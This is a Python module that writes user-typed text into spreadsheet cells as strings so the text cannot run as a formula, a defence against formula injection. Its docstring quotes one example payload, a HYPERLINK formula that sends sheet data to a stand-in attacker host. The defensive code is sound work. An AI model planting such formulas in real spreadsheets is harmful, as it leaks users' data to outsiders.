"""Writing text into a spreadsheet cell as text, never as a formula (issue 11, formula injection).

A case ref, an organ's name or any other text a user typed can begin with `=`, `+`, `-` or `@`;
a spreadsheet program would run it as a formula (`=HYPERLINK("http://evil.example/?"&A1,"x")`
sends the sheet's data away when clicked). openpyxl itself turns a string starting with `=` into
a formula. Every XLSX the product writes puts text into cells through `put_text` only.
"""

from __future__ import annotations

from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, WriteOnlyCell


def put_text(ws: Any, row: int, column: int, text: str) -> Any:
    """Write `text` at (row, column) of worksheet `ws` as a string cell, and return the cell.

    The cell's type is forced to string ('s': a shared string, which Excel, WPS and LibreOffice
    show as typed and never evaluate), and it is marked quote-prefixed, so editing the cell later
    keeps it text. Characters XML cannot hold (control characters) are dropped rather than
    failing the whole workbook.
    """
    return as_text(ws.cell(row=row, column=column), text)


def text_cell(ws: Any, text: str) -> Any:
    """A cell holding `text` as text for a write-only worksheet's `append` (large exports)."""
    return as_text(WriteOnlyCell(ws), text)


def as_text(cell: Any, text: str) -> Any:
    """Put `text` into `cell` as a string, never a formula (see `put_text`); returns the cell."""
    cell.value = ILLEGAL_CHARACTERS_RE.sub("", str(text))
    cell.data_type = "s"  # after the value: openpyxl infers 'f' for a leading '=', 'e' for '#N/A'
    if not cell.quotePrefix:  # a cell given a prepared style may have it already (a large export)
        cell.quotePrefix = True
    return cell
